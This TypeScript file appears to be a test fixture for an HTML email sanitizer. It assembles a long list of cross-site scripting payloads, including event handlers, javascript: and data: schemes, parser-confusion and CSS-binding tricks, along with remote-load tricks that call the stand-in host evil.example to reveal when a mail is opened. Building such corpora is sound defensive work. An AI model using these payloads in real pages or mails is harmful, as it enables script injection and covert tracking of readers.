const RUN = "document.title='ran';alert(1)" // what a script would do that got through
const OUT = "https://evil.example" // where a request would go that got through

const EVENTS = [
  "onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "ontransitionend", "onpointerenter",
  "onbeforetoggle", "onscroll", "onwheel", "onpaste", "onauxclick", "onfocusin", "onloadstart", "onbegin", "onpageshow", "onresize", "onhashchange",
] // prettier-ignore

/** One attempt for each event, on an element that fires it by itself where there is one. */
const handlers = EVENTS.flatMap((event) => [
  `<img src=x ${event}="${RUN}">`,
  `<svg ${event}="${RUN}"><animate ${event}="${RUN}" attributeName=x dur=1s></svg>`,
])

const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `&#106;&#97;vascript:${RUN}`,
  `&#x6A;avascript&colon;${RUN}`,
  ` \x01javascript:${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `blob:${OUT}/1`,
  `filesystem:${OUT}/1`,
  `view-source:${OUT}`,
]

const links = SCHEMES.flatMap((scheme) => [
  `<a href="${scheme}" autofocus>go</a>`,
  `<iframe src="${scheme}"></iframe>`,
  `<form action="${scheme}"><button autofocus>go</button></form>`,
])

const scripts = [
  `<script>${RUN}</script>`,
  `<script src="${OUT}/x.js"></script>`,
  `<script type=module>import "${OUT}/x.js"</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="${OUT}/x.js"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg><foreignObject><body onload="${RUN}"></foreignObject></svg>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${RUN}>"></title>`,
  `<xmp><img title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<plaintext><img src=x onerror="${RUN}">`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<!--[if IE]><script>${RUN}</script><![endif]-->`,
  `<![CDATA[><img src=x onerror="${RUN}">]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?><p>x`,
  `<img src="x\`\`onerror=${RUN}">`,
  `<img/src="x"/onerror="${RUN}"/>`,
  `<img """><script>${RUN}</script>">`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<dialog open onclose="${RUN}"><form method=dialog><button autofocus>x</button></form></dialog>`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus="${RUN}"><option>x</select>`,
  `<body onload="${RUN}" background="${OUT}/bg.png">`,
  `<isindex type=image src=1 onerror="${RUN}">`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<portal src="javascript:${RUN}"></portal>`,
  `<p id="x" contenteditable autofocus onfocus="${RUN}">x</p>`,
  `<a name="getElementById"></a><form id="document"><input name="body"></form><img name="cookie">`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>go</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"/></svg>`,
  `<svg><set attributeName="onmouseover" to="${RUN}"/></svg>`,
  `<svg><animate attributeName="href" values="javascript:${RUN}"/><a id="x"><text>go</text></a></svg>`,
  `<div style="width:expression(${RUN})">x</div>`,
  `<div style="behavior:url(${OUT}/x.htc)">x</div>`,
  `<div style="-moz-binding:url(${OUT}/x.xml#x)">x</div>`,
]

/** Attempts to ask something of a stranger, so that they learn that the mail was opened. */
const requests = [
  `<img src="${OUT}/1.png">`,
  `<img src="//evil.example/2.png">`,
  `<img srcset="${OUT}/3.png 1x, ${OUT}/3b.png 2x">`,
  `<img src="\\\\evil.example\\4.png">`,
  `<picture><source srcset="${OUT}/5.png"><img src="x"></picture>`,
  `<video poster="${OUT}/6.png" src="${OUT}/6.mp4" autoplay></video>`,
  `<audio src="${OUT}/7.mp3" autoplay></audio>`,
  `<track src="${OUT}/8.vtt">`,
  `<object data="${OUT}/9.swf"></object>`,
  `<embed src="${OUT}/10.swf">`,
  `<iframe src="${OUT}/11"></iframe>`,
  `<iframe srcdoc="&lt;img src=${OUT}/12.png&gt;"></iframe>`,
  `<frameset><frame src="${OUT}/13"></frameset>`,
  `<link rel=stylesheet href="${OUT}/14.css">`,
  `<link rel=preload as=image href="${OUT}/15.png">`,
  `<link rel=dns-prefetch href="${OUT}"><link rel=preconnect href="${OUT}">`,
  `<link rel=icon href="${OUT}/16.ico">`,
  `<meta http-equiv=refresh content="0;url=${OUT}/17">`,
  `<meta http-equiv=Content-Security-Policy content="report-uri ${OUT}/18">`,
  `<base href="${OUT}/"><img src="19.png">`,
  `<table background="${OUT}/20.png"><tr><td background="${OUT}/20b.png">x</table>`,
  `<div style="background:url(${OUT}/21.png)">x</div>`,
  `<div style="background:u\\72l(${OUT}/22.png)">x</div>`,
  `<div style="background-image:image-set('${OUT}/23.png' 1x)">x</div>`,
  `<div style="list-style:url('${OUT}/24.png')">x</div>`,
  `<div style="cursor:url(${OUT}/25.cur),auto">x</div>`,
  `<div style="border-image:url(${OUT}/26.png) 1">x</div>`,
  `<div style="content:url(${OUT}/27.png)">x</div>`,
  `<div style="filter:url(${OUT}/28.svg#x)">x</div>`,
  `<style>@import "${OUT}/29.css";</style>`,
  `<style>@import url(${OUT}/30.css);body{background:url(${OUT}/30.png)}</style>`,
  `<style>@font-face{font-family:x;src:url(${OUT}/31.woff)}p{font-family:x}</style><p>x`,
  `<style>p{background:url("${OUT}/32.png")}</style><p>x`,
  `<svg><image href="${OUT}/33.png" xlink:href="${OUT}/33b.png"/></svg>`,
  `<svg><use href="${OUT}/34.svg#x"/></svg>`,
  `<svg><feImage href="${OUT}/35.png"/></svg>`,
  `<input type=image src="${OUT}/36.png">`,
  `<a href="${OUT}/37" ping="${OUT}/37p">x</a>`,
  `<bgsound src="${OUT}/38.wav">`,
  `<body background="${OUT}/39.png">`,
  `<img lowsrc="${OUT}/40.png" dynsrc="${OUT}/40b.avi">`,
  `<div style="--x:url(${OUT}/41.png);background:var(--x)">x</div>`,
  `<form action="${OUT}/42" target=_top><input autofocus></form>`,
  `<q cite="${OUT}/43">x</q><blockquote cite="${OUT}/43b">x</blockquote>`,
]

/** Attempts of our own to run a script or to ask a stranger from within a mail. */
export const ATTEMPTS = [...handlers, ...links, ...scripts, ...requests].length

/** The bodies of mails that hold them. Those that cannot swallow one another share a mail. */
export const HOSTILE_HTML: readonly string[] = [...together(handlers), ...together(links), ...scripts, ...requests]

function together(attempts: readonly string[]): readonly string[] {
  const mails = Math.ceil(attempts.length / 10)
  return Array.from({ length: mails }, (_, mail) => attempts.slice(mail * 10, mail * 10 + 10).join("\n"))
}
